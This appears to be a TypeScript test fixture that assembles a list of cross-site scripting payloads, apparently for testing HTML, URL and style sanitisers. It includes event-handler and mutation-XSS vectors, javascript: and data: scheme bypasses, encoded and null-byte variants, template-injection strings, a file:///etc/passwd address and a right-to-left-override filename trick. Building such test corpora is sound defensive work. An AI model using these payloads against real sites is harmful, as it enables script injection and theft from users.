/**
 * Strings that run a script, load something or restyle the page where markup, addresses or styles are taken from
 * them: an own collection, since npm has none. Each calls `ran()` or asks for a path with `stray` in it.
 */
const CALL = 'ran()';
const LOAD = '/stray';

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
];

/** Elements that run a handler by themselves, `%` being the handler. */
const SELF_RUNNING = [
  '<img src=x %>',
  '<img src="x" %>',
  "<img src='x' %>",
  '<img/src=x/%>',
  '<IMG SRC=x %>',
  '<svg %>',
  '<svg/%>',
  '<svg><animate attributeName=x dur=1s %></svg>',
  '<body %>',
  '<video src=x %></video>',
  '<audio src=x %>',
  '<input autofocus %>',
  '<select autofocus %></select>',
  '<textarea autofocus %></textarea>',
  '<details open %>',
  '<iframe srcdoc="x" %></iframe>',
  '<object data=x %></object>',
  '<marquee %>x</marquee>',
  '<math><mtext %></mtext></math>',
  '<x id=x tabindex=1 %>#x',
  '<style>@keyframes x{}</style><x style="animation-name:x" %></x>',
];

/** Ways out of where a text may stand. */
const EXITS = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</p>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  ']]>',
  '${',
  '{{',
  '<!--',
];

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script src=${LOAD}/a.js></script>`,
  `<script type=module>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href=${LOAD}/b.js /></svg>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
];

const LOADS = [
  `<img src=${LOAD}/1.png>`,
  `<img srcset="${LOAD}/2.png 1x">`,
  `<picture><source srcset=${LOAD}/3.png><img></picture>`,
  `<link rel=stylesheet href=${LOAD}/4.css>`,
  `<link rel=prefetch href=${LOAD}/5>`,
  `<iframe src=${LOAD}/6></iframe>`,
  `<embed src=${LOAD}/7>`,
  `<object data=${LOAD}/8></object>`,
  `<video poster=${LOAD}/9.png></video>`,
  `<style>@import url(${LOAD}/10.css);</style>`,
  `<style>body{background:url(${LOAD}/11.png)!important}</style>`,
  `<p style="background:url(${LOAD}/12.png)">`,
  `<meta http-equiv=refresh content="0;url=${LOAD}/13">`,
  `<base href=${LOAD}/14/>`,
  `<form action=${LOAD}/15><button autofocus>x</button></form>`,
  `<svg><use href="${LOAD}/16.svg#x"/></svg>`,
  `<svg><image href="${LOAD}/17.png"/></svg>`,
  `<input type=image src=${LOAD}/18.png>`,
];

const STYLES = [
  '<style>*{display:none!important}</style>',
  '</style><style>:host{position:fixed;inset:0}</style>',
  '"style="position:fixed;inset:0;font-size:999px',
  'x;position:fixed;inset:0;z-index:2147483647',
  '} * { color: red !important } .x {',
  '\\3c style\\3e body\\7b display:none\\7d',
  'red; background: url(/stray/19.png)',
  'expression(ran())',
];

const JAVASCRIPT = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  '\u0001javascript:',
  '\u0000javascript:',
  'javascript\t:',
  'javascript://%0a',
  'javascript:/*https://a.example/*/',
  'view-source:javascript:',
  'feed:javascript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  'javascript&colon;',
  '%6aavascript:',
  '\u202Ejavascript:',
  'vbscript:',
  'livescript:',
];

const ADDRESSES = [
  ...JAVASCRIPT.map((scheme) => scheme + CALL),
  ...JAVASCRIPT.slice(0, 10).map((scheme) => `${scheme}eval('${CALL}')//https://a.example/`),
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,${btoa(`<script>${CALL}</script>`)}`,
  `DATA:text/html,<script>${CALL}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  'blob:https://a.example/0',
  'file:///etc/passwd',
  'about:blank',
  'filesystem:https://a.example/temporary/x',
  'intent://x#Intent;scheme=http;end',
  '//a.example/stray',
  '/stray',
  'stray',
  '\\\\a.example\\stray',
  'http:javascript:ran()',
  'https://a.example/"onclick="ran()',
  "https://a.example/'onmouseover='ran()",
  'https://a.example/><script>ran()</script>',
  'https://user:secret@a.example/',
  'https://a.example\\@b.example/',
  'https://[bad',
  'https://',
  'ws://a.example/',
];

const TEMPLATES = [
  '${ran()}',
  '{{ran()}}',
  "{{constructor.constructor('ran()')()}}",
  '<%= ran() %>',
  '#{ran()}',
  '*{ran()}',
  '[[${ran()}]]',
  '<!--?lit$1$-->',
  '?lit$000000000$',
  '<?ran()>',
  '<![CDATA[<script>ran()</script>]]>',
  '@click=${ran}',
  '.innerHTML=<img src=x onerror=ran()>',
  "$1 $& $` $'",
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
];

const ENCODED = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\uFF1Cscript\uFF1E${CALL}\uFF1C/script\uFF1E`,
  `¼script¾${CALL}¼/script¾`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `<img src=x o\u0000nerror=${CALL}>`,
  `<img src=x onerror=&#114;an()>`,
  `<img src=x onerror\u000b=${CALL}>`,
  `<img src=x onerror\u000c=${CALL}>`,
  `<img src=x onerror\u3000=${CALL}>`,
  `<\u0000img src=x onerror=${CALL}>`,
  `<img src=x:x onerror="eval(atob('${btoa(CALL)}'))">`,
];

const LAYOUT = [
  'x'.repeat(10_000),
  'W'.repeat(300),
  '\u0301'.repeat(1000),
  `Z${'\u0489\u0338\u033F\u0301'.repeat(200)}algo`,
  '\u202E\u2066\u2067\u2068\u202A\u202D',
  `abc\u2069\u202Egnp.exe`,
  'م'.repeat(500),
  '﷽'.repeat(50),
  '𒐫'.repeat(80),
  '\u200B'.repeat(1000),
  '\u00A0'.repeat(1000),
  '\u3164'.repeat(200),
  'a\n'.repeat(2000),
  '\uD800',
  '\uDC00\uD800',
  '👩‍👩‍👧‍👦'.repeat(100),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(50),
  '\uFFFE\uFFFF\uFEFF',
];

const AUTOMATIC = EXITS.flatMap((exit) =>
  SELF_RUNNING.map(
    (element, at) => exit + element.replace('%', `${HANDLERS[at % HANDLERS.length] ?? ''}=${CALL}`),
  ),
);

export const XSS: readonly string[] = [
  ...new Set([
    ...AUTOMATIC,
    ...SELF_RUNNING.map((element) => element.replace('%', `onerror="${CALL}" onload="${CALL}"`)),
    ...EXITS.flatMap((exit) => SCRIPTS.map((script) => exit + script)),
    ...LOADS,
    ...LOADS.map((load) => `">${load}`),
    ...STYLES,
    ...ADDRESSES,
    ...TEMPLATES,
    ...ENCODED,
    ...LAYOUT,
    ...HANDLERS.map((handler) => `" ${handler}="${CALL}" x="`),
    ...HANDLERS.map((handler) => `' ${handler}=${CALL} autofocus tabindex=1 x='`),
  ]),
];

/** Names that every object of JavaScript has a member of. */
export const INHERITED = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];
